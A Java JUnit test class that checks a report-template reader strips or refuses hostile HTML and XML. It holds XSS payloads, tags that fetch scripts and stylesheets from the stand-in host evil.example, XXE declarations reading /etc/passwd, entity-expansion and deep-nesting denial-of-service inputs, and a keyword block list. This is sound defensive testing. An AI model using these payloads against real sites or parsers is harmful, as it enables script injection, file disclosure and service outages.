package org.readingroom.report.template;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTimeoutPreemptively;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.List;
import java.util.Locale;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import org.readingroom.report.model.SectionKind;

// [utest->req~report.template.safe~1]
class HostileTemplateTest {
    /// Nothing of these may be left in what is kept and handed on.
    private static final List<String> POISON = List.of(
            "alert",
            "javascript",
            "http:",
            "https:",
            "file:",
            "onload",
            "onerror",
            "onclick",
            "onfocus",
            "<iframe",
            "<object",
            "<embed",
            "<img",
            "<svg",
            "<link",
            "<base",
            "<form",
            "action=",
            "src=",
            "href",
            "<style",
            "refresh\"",
            "<!--");

    @ParameterizedTest
    @ValueSource(
            strings = {
                "<script>alert(1)</script>",
                "<script type='text/javascript'>alert(1)</script>",
                "<script src='http://evil.example/x.js'></script>",
                "<script type='text/xml' src='http://evil.example/x'></script>",
                "<SCRIPT TYPE=text/xml onload=alert(1)></SCRIPT>",
                "<p onclick='alert(1)'>fine.</p>",
                "<p ONCLICK=alert(1)>fine.</p>",
                "<input id='x' type='text' title='x' value='v' onfocus='alert(1)' autofocus>",
                "<iframe src='http://evil.example'></iframe>",
                "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
                "<object data='file:///etc/passwd'></object>",
                "<embed src='file:///etc/passwd'>",
                "<img src=x onerror=alert(1)>",
                "<svg><script>alert(1)</script><use href='http://evil.example/#x'/></svg>",
                "<math><mtext><script>alert(1)</script></mtext></math>",
                "<a href='javascript:alert(1)'>fine</a>",
                "<form action='http://evil.example'><input id='y' type='text' title='y' formaction='http://evil.example'></form>",
                "<button formaction='http://evil.example'>go</button>",
                "<style>@import 'http://evil.example/x.css';</style>",
                "<p style='background:url(http://evil.example)'>fine.</p>",
                "<link rel='stylesheet' href='http://evil.example/x.css'>",
                "<base href='http://evil.example'>",
                "<meta http-equiv='refresh' content='0;url=http://evil.example'>",
                "<video src='http://evil.example'><source src='http://evil.example'></video>",
                "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
                "<template><script>alert(1)</script></template>",
                "<!-- <script>alert(1)</script> -->",
                "<!--><img src=x onerror=alert(1)>-->",
                "<textarea id='z' title='z'></textarea><script>alert(1)</script>",
                "<select id='s' title='s'><option value='a'>a</option><script>alert(1)</script></select>",
                "<p title='\"><script>alert(1)</script>'>fine.</p>",
                "<![CDATA[<script>alert(1)</script>]]>",
                "<?php alert(1) ?>",
                "<xmp><script>alert(1)</script></xmp>",
                "<p data-rr-show=\"true\"><span onload='alert(1)'>fine.</span></p>"
            })
    void whatRunsOrReachesOutIsNotThere(String attack) throws TemplateException {
        TemplateReader.ReadTemplate read = Pages.all(Pages.page("en", "<p>Words.</p>" + attack, "<p>Other words.</p>"));
        String kept = read.source().toLowerCase(Locale.ROOT);
        boolean isText = attack.startsWith("<![CDATA") || attack.startsWith("<?php");
        for (String poison : POISON) {
            assertFalse(
                    kept.contains(poison) && !(isText && poison.equals("alert")),
                    poison + " is left of " + attack + ": " + kept);
        }
        assertEquals("Words.", text(read.template(), 0), attack);
        // What is kept reads the same again, with nothing left to drop.
        TemplateReader.ReadTemplate again = Pages.all(read.source());
        assertEquals(List.of(), again.dropped());
        assertEquals(read.source(), again.source());
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "<!DOCTYPE html [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>",
                "<!DOCTYPE html [<!ENTITY % x SYSTEM \"http://evil.example/x.dtd\"> %x;]>",
                "<!doctype html [<!entity a \"aaaaaaaaaa\"><!entity b \"&a;&a;&a;&a;&a;&a;&a;&a;\">]>",
                "<!DOCTYPE html [ ]>",
                "<!DOCTYPE foo>",
                "<!DOCTYPE\nlolz\n[\n<!ENTITY lol \"lol\">\n]>",
                "<!ENTITY x \"y\">",
                "<! ENTITY x SYSTEM 'file:///etc/passwd'>"
            })
    void declarationsAreRefused(String declaration) {
        String page = Pages.page("en", "<p>&x; &b; &lol;</p>", "").replace("<!DOCTYPE html>", declaration);
        TemplateException refused = assertThrows(TemplateException.class, () -> Pages.all(page));
        assertTrue(
                List.of("report.template.doctype", "report.template.entities").contains(refused.messageKey()),
                refused.messageKey());
        String xml = "<?xml version=\"1.0\"?>" + page;
        assertThrows(TemplateException.class, () -> Pages.all(xml));
    }

    @Test
    void aFileOfTheDiskIsNeverRead() throws TemplateException {
        String page = "<?xml version=\"1.0\"?>\n"
                + Pages.page("en", "<p>&xxe;.</p><xi:include href=\"file:///etc/hostname\"/>", "<p>b.</p>");
        assertEquals("&xxe;.", text(Pages.read(page), 0));
    }

    @Test
    void endlessFilesAreRefusedAndSoonReadToTheirEnd() {
        assertRefused("report.template.too-large", "x".repeat(600 * 1024));
        assertRefused("report.template.too-many", Pages.page("en", "<p>a.</p>".repeat(3000), ""));
        assertRefused("report.template.too-deep", Pages.page("en", "<div>".repeat(60) + "a", ""));
        assertRefused("report.template.too-deep", Pages.page("en", "<div>".repeat(90_000), ""));
        assertRefused("report.template.too-deep", "<?xml version='1.0'?>" + "<div>".repeat(90_000));
        assertSoon("<p \"".repeat(100_000));
        assertSoon("<p a=\"".repeat(80_000));
        assertSoon("<".repeat(400_000));
        assertSoon("<b>".repeat(150_000));
        assertSoon("<table><tr>".repeat(40_000));
        assertSoon("<!DOCTYPE ".repeat(40_000));
        assertSoon("&".repeat(400_000));
        assertSoon("<select>".repeat(50_000));
    }

    @Test
    void bytesThatAreNoTextAreRefused() {
        assertRefused("report.template.not-text", new byte[] {(byte) 0xC3, (byte) 0x28});
        assertRefused("report.template.not-text", "<p>\0</p>".getBytes(StandardCharsets.UTF_8));
        assertRefused(
                "report.template.not-text",
                Pages.page("zh", "<p>胸</p>", "").getBytes(java.nio.charset.Charset.forName("GB18030")));
        assertRefused(
                "report.template.not-text", Pages.page("en", "<p>a</p>", "").getBytes(StandardCharsets.UTF_16));
        assertRefused("report.template.no-section", new byte[0]);
    }

    @Test
    void whatIsWrongIsSaidWithItsLine() {
        String page = Pages.page(
                "en",
                "\n<p data-rr-show=\"a >\">x.</p>\n<p><input id=\"a\" title=\"a\"><input id=\"a\" title=\"a\"></p>\n"
                        + "<p data-rr-show=\"lost = 1\">y.</p>\n"
                        + "<p><output id=\"o\" data-rr-compute=\"p\"></output><output id=\"p\" data-rr-compute=\"o\"></output></p>\n"
                        + "<p><input id=\"n\" type=\"number\" min=\"9\" max=\"3\"><select id=\"s\"></select></p>",
                "");
        TemplateException refused = assertThrows(TemplateException.class, () -> Pages.all(page));
        List<String> said = refused.problems().stream()
                .map(problem -> problem.line() - 5 + " " + problem.key().replace("report.template.", ""))
                .toList();
        assertEquals(
                List.of(
                        "1 expression-ends",
                        "2 field-twice",
                        "3 field-unknown",
                        "4 field-ring",
                        "5 range-wrong",
                        "5 list-empty"),
                said);
    }

    @Test
    void aSectionNobodyKnowsIsNotGuessed() {
        TemplateException refused = assertThrows(
                TemplateException.class,
                () -> Pages.all(Pages.page("en", "<p>a.</p>", "").replace("id=\"impression\"", "id=\"billing\"")));
        assertEquals("report.template.section-unknown", refused.messageKey());
        assertEquals(List.of("billing"), refused.messageArguments());
    }

    private static String text(ReportTemplate template, int line) {
        return TemplateForm.blank(
                        template,
                        org.readingroom.report.testing.SampleReports.study(org.readingroom.viewer.model.Sex.FEMALE))
                .lines(SectionKind.FINDINGS)
                .get(line)
                .pieces()
                .getFirst()
                .words();
    }

    private static void assertRefused(String key, String page) {
        assertRefused(key, page.getBytes(StandardCharsets.UTF_8));
    }

    private static void assertRefused(String key, byte[] page) {
        TemplateException refused = assertThrows(TemplateException.class, () -> Pages.all(page));
        assertTrue(refused.problems().stream().anyMatch(problem -> problem.key().equals(key)), refused.getMessage());
    }

    /// Half a minute is what a machine under load may need; a file that hangs the program needs for ever.
    private static void assertSoon(String page) {
        assertTimeoutPreemptively(
                Duration.ofSeconds(30),
                () -> assertThrows(TemplateException.class, () -> Pages.all(page)),
                page.substring(0, 8));
    }
}
